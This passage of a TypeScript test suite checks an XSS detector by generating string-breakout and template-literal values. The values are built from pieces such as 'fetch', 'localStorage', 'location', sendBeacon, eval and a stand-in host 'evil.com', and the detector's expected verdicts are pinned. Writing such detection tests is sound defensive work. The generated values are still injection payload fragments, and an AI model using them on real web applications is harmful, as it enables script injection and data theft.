  // refBreakout reads the new heads with regexes and slices. (Planted in the detector: the `:`
  // requirement dropped: 54 failing checks in this file; `instanceof` read as `in`: 38; no reopening
  // after `:` / `?`: 34; the `<!--` tail ignored: 90, with the tails it has now.)
  const heads = ["'?", '"??', "'in ", '`instanceof ', "'in(", "'?:", "'is ", "'inx ", "' ?", "'in\t"];
  const tails = ['//', ":'", "?'", "in'", " instanceof'", "+'", '// x', '"', '://x', "xin'", '<!--', '<!-- x'];
  const pieces = [...'\'"`;+-|&,)}] =(./*\n:?'].concat(['//', 'fetch', 'import', 'location', 'localStorage', 'src', 'open', 'alert', 'the', 'in', 'in ', 'instanceof', "'//evil.com'", 'x', 'new ', 'fetchy']);
  const { flagged, verdicts } = breakoutTable(t, { heads, tails, pieces, seed: 2020, n: 40000, pHead: 0.85, maxPieces: 7 });
  t.ok(flagged > 200, `${flagged} values flagged by the reference`);
  // (736ff4d7 -> a845062d with the text before the quote, one value: `x'&localStorage//`; the table
  // with `<!--` tails: 80481b7a.)
  t.equal(verdictDigest(verdicts), '80481b7a', 'verdicts of the table pinned');
});

t.test('template-literal code: the whole prefix x name x follower table against its expected verdict (session 20)', async (t) => {
  // High: a TPL_CALLS name called, or `location` assigned / sent, at the start of `${…}` (after
  // blanks, `await` / `new` / `void`, one global root and `.`). (Planted: the root step dropped: 33
  // failures; `location==x` read as an assignment: 6.)
  const PRE: [string, boolean][] = [['${', true], ['${ ', true], ['x ${', true], ['${await ', true], ['${new ', true], ['${window.', true], ['${navigator.', true], ['${user.', false], ['${ fn', false], ['${x+', false], ['{', false], ['`${', false], ['a `${', false], ['\\`${', true]];
  const CALLS = ['import', 'fetch', 'eval', 'Function', 'sendBeacon', 'WebSocket', 'EventSource', 'alert', 'prompt', 'confirm'];
  const NAMES = [...CALLS, 'atob', 'fetchAll', 'setInterval', 'location', 'open', 'write'];
  const FOL = ['(x)}', '`x`}', ' (x)}', '}', '.href=x}', '=x}', '==x}', '.origin}', '.assign(x)}', '.href}'];
  let n = 0;
  for (const [pre, starts] of PRE) {
    for (const name of NAMES) {
      for (const fol of FOL) {
        const v = pre + name + fol;
        const call = CALLS.includes(name) && (fol.startsWith('(') || fol.startsWith('`') || fol.startsWith(' ('));
        const loc = name === 'location' && (fol === '.href=x}' || fol === '=x}' || fol === '.assign(x)}');
        const want = starts && (call || loc);
        const d = detectXss(v);
        if (want && d?.confidence !== 'high') t.fail(`want high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
        if (!want && d?.reason.startsWith('A template literal expression')) t.fail(`want no template-code finding: ${JSON.stringify(v)}`);
        n++;
      }
    }
  }
  t.equal(n, PRE.length * NAMES.length * FOL.length);
});
